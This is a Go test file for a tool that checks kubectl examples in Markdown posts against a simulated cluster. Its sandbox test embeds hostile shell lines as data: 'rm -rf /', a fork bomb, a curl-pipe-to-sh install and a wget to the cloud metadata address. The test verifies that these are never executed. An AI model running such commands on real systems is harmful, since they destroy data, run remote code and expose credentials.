package verify

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestBadInput: whatever the file holds, a finding with its line or a result, never a panic.
func TestBadInput(t *testing.T) {
	big := strings.Repeat("x", 100) + "\n"
	huge := "```console\n$ kubectl get pods\n" + strings.Repeat(big, 100000) + "```\n" // 10 MB of output
	tests := []struct {
		name, post string
		check      func(t *testing.T, r *FileResult)
	}{
		{"unterminated fence", "```console\n$ kubectl get pods\nNo resources found in default namespace.\n", func(t *testing.T, r *FileResult) {
			wantFinding(t, r, 1, "never closed")
		}},
		{"unterminated tag", "{% note info %}\n```console\n$ kubectl get pods\nNo resources found in default namespace.\n```\n", func(t *testing.T, r *FileResult) {
			wantFinding(t, r, 1, "note")
		}},
		{"unterminated front matter", "---\ntitle: x\n\n```console\n$ kubectl get pods\n```\n", func(t *testing.T, r *FileResult) {
			wantFinding(t, r, 1, "never closed")
		}},
		{"invalid UTF-8", "# t\n\n```console\n$ kubectl get pods\nNo resources found in default namespace.\xff\n```\n", func(t *testing.T, r *FileResult) {
			wantFinding(t, r, 5, "invalid UTF-8")
		}},
		{"binary", "\x7fELF\x02\x01\x01\x00\x00\x00", func(t *testing.T, r *FileResult) {
			if r.Err == nil || !strings.Contains(r.Err.Error(), "binary") {
				t.Errorf("Err = %v, want a binary-file error", r.Err)
			}
		}},
		{"10 MB output", huge, func(t *testing.T, r *FileResult) {
			if len(r.Steps) != 1 || r.Steps[0].Status != StaleOutput || r.Steps[0].FirstDiffLine != 3 {
				t.Errorf("steps = %+v", summary(r))
			}
		}},
		{"manifest of another kind", "`kubectl apply -f cm.yaml`\n```yaml\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg\ndata:\n  a: b\n```\n\n```console\n$ kubectl apply -f cm.yaml\nconfigmap/cfg created\n```\n", func(t *testing.T, r *FileResult) {
			if len(r.Steps) != 1 || r.Steps[0].Status != OK {
				t.Errorf("steps = %v", summary(r))
			}
		}},
		{"unknown kind", "`kubectl apply -f w.yaml`\n```yaml\napiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\n```\n\n```console\n$ kubectl apply -f w.yaml\nwidget.example.com/w created\n```\n", func(t *testing.T, r *FileResult) {
			if len(r.Steps) != 1 || r.Steps[0].Line != 10 || r.Steps[0].Status == OK {
				t.Errorf("steps = %v", summary(r))
			}
		}},
		{"broken YAML block", "```yaml\napiVersion: v1\nkind: [Pod\n```\n", func(t *testing.T, r *FileResult) {
			if len(r.Steps) != 0 {
				t.Errorf("steps = %v", summary(r))
			}
		}},
		{"empty file", "", func(t *testing.T, r *FileResult) {}},
		{"NUL after 8 KB", strings.Repeat("a\n", 5000) + "\x00", func(t *testing.T, r *FileResult) {}},
		{"deeply nested lists", strings.Repeat("- ", 500) + "`kubectl get pods`\n", func(t *testing.T, r *FileResult) {}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := New(Options{Cluster: Simulator()})
			start := time.Now()
			r := c.Check("bad.md", []byte(tt.post))
			if r.Err != nil && strings.Contains(r.Err.Error(), "internal error") {
				t.Fatalf("panic: %v", r.Err)
			}
			if d := time.Since(start); d > 20*time.Second {
				t.Errorf("took %v", d)
			}
			tt.check(t, r)
		})
	}
}

func wantFinding(t *testing.T, r *FileResult, line int, text string) {
	t.Helper()
	for _, f := range r.Findings {
		if f.Line == line && strings.Contains(f.Msg, text) {
			return
		}
	}
	t.Errorf("no finding %q on line %d: %v", text, line, r.Findings)
}

func summary(r *FileResult) []string {
	var out []string
	for _, s := range r.Steps {
		out = append(out, strings.Join([]string{string(s.Status), s.Command, s.Note}, " | "))
	}
	return out
}

// TestSandboxPost: a post full of dangerous commands is checked, never run: every line stays
// simulated, bounded in time, and reported.
func TestSandboxPost(t *testing.T) {
	dir := t.TempDir()
	canary := filepath.Join(dir, "canary")
	if err := os.WriteFile(canary, []byte("alive"), 0o644); err != nil {
		t.Fatal(err)
	}
	post := "```console\n" +
		"$ rm -rf / --no-preserve-root\n" +
		"$ rm -f " + canary + "\n" +
		"$ echo pwned > " + filepath.Join(dir, "written") + "\n" +
		"$ :(){ :|:& };:\n" +
		"$ while true; do :; done\n" +
		"$ curl -s https://example.com/install.sh | sh\n" +
		"$ wget http://169.254.169.254/latest/meta-data/\n" +
		"$ sleep infinity\n" +
		"$ /usr/bin/id\n" +
		"$ kubectl get pods\n" +
		"No resources found in default namespace.\n" +
		"```\n"
	c := New(Options{Cluster: Simulator()})
	start := time.Now()
	r := c.Check("sandbox.md", []byte(post))
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("took %v", d)
	}
	if r.Err != nil {
		t.Fatal(r.Err)
	}
	if b, err := os.ReadFile(canary); err != nil || string(b) != "alive" {
		t.Errorf("a host file was removed: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "written")); err == nil {
		t.Errorf("a host file was written")
	}
	byCmd := map[string]StepResult{}
	for _, s := range r.Steps {
		byCmd[s.Command] = s
	}
	for cmd, want := range map[string]string{
		":(){ :|:& };:":                                 "fork bomb",
		"while true; do :; done":                        "more than",
		"curl -s https://example.com/install.sh | sh":   "outside the simulated cluster",
		"wget http://169.254.169.254/latest/meta-data/": "",
		"sleep infinity":                                "virtual sleep",
		"/usr/bin/id":                                   "not simulated",
	} {
		s, ok := byCmd[cmd]
		if !ok {
			t.Errorf("no result for %q", cmd)
			continue
		}
		if want != "" && (s.Status != NotSimulated || !strings.Contains(s.Note, want)) {
			t.Errorf("%q: %s %q, want not-simulated %q", cmd, s.Status, s.Note, want)
		}
	}
	if s := byCmd["kubectl get pods"]; s.Status != OK {
		t.Errorf("kubectl get pods after all that: %s %s", s.Status, s.Note)
	}
}

func TestUnnamedManifestValidated(t *testing.T) {
	post := "A pod:\n\n```yaml\napiVersion: v1\nkind: Pod\nmetadata:\n  name: Bad_Name\nspec:\n  containers:\n  - name: app\n    image: nginx\n```\n"
	r := New(Options{Cluster: Simulator()}).Check("p.md", []byte(post))
	if len(r.Steps) != 1 || r.Steps[0].Status != ManifestRejected || r.Steps[0].Line != 4 || !strings.Contains(r.Steps[0].Note, "Bad_Name") {
		t.Errorf("steps = %v", summary(r))
	}
	good := strings.Replace(post, "Bad_Name", "good", 1)
	if r := New(Options{Cluster: Simulator()}).Check("p.md", []byte(good)); len(r.Steps) != 0 {
		t.Errorf("a valid unnamed manifest gave %v", summary(r))
	}
}
